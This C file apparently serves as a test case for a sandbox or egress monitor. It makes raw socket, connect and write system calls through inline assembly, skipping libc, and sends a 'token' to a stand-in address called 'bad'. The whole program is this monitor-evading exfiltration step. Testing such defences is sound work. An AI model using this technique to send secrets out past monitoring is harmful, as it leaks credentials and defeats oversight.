// System calls without the library's functions: inline assembly in a dynamic program.
#include "attack.h"

static long call3(long number, long a, long b, long c) {
    long result;
#if defined __x86_64__
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#elif defined __aarch64__
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    result = x0;
#endif
    if (result < 0) { errno = -result; return -1; }
    return result;
}

int main(int argc, char **argv) {
    begin(argc, argv);
    struct sockaddr_in a = in4(bad);
    int fd = must(call3(SYS_socket, AF_INET, SOCK_STREAM, 0));
    must(call3(SYS_connect, fd, (long)&a, sizeof a));
    must(call3(SYS_write, fd, (long)token, strlen(token)));
    return 0;
}
